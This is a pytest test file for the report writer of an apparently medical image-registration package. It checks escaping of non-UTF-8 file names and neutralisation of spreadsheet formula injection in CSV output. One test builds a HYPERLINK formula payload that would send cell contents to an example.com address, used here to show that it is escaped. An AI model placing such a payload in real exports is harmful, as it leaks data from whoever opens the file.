"""Text from users' files: every character can be written, and no spreadsheet runs it."""

import csv
import os

import pytest

from corereg.report.tables import write_csv
from corereg.report.text import csv_cell, printable


@pytest.mark.parametrize(
    ("name", "printed"),
    [
        (b"liver.nii.gz", "liver.nii.gz"),
        ("Müller ← 肝.nii.gz".encode(), "Müller ← 肝.nii.gz"),
        (b"caf\xe9.nii.gz", r"caf\xe9.nii.gz"),
        (b"\x80\xff", r"\x80\xff"),
    ],
)
def test_bytes_that_are_not_utf8_are_spelled_out(name, printed):
    assert printable(os.fsdecode(name)) == printed
    printable(os.fsdecode(name)).encode("utf-8")


def test_any_lone_surrogate_can_be_written():
    for code in range(0xD800, 0xE000):
        printable(f"a{chr(code)}b").encode("utf-8")
    assert printable("\ud800") == r"\ud800"


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r", "\n"])
def test_text_that_a_spreadsheet_would_run_is_escaped(start, tmp_path):
    formula = f'{start}HYPERLINK("http://example.com/"&A1)'
    write_csv(tmp_path / "rows.csv", [{"fixed": formula, "dice": -0.5, "name": "-"}])
    with (tmp_path / "rows.csv").open(newline="") as file:
        (row,) = csv.DictReader(file)
    assert row == {"fixed": f"'{formula}", "dice": "-0.5", "name": "'-"}


@pytest.mark.parametrize("value", [-0.25, -3, None, True, "a=b", "disp_0001", ""])
def test_other_cells_stay_as_they_are(value):
    assert csv_cell(value) is value or csv_cell(value) == value
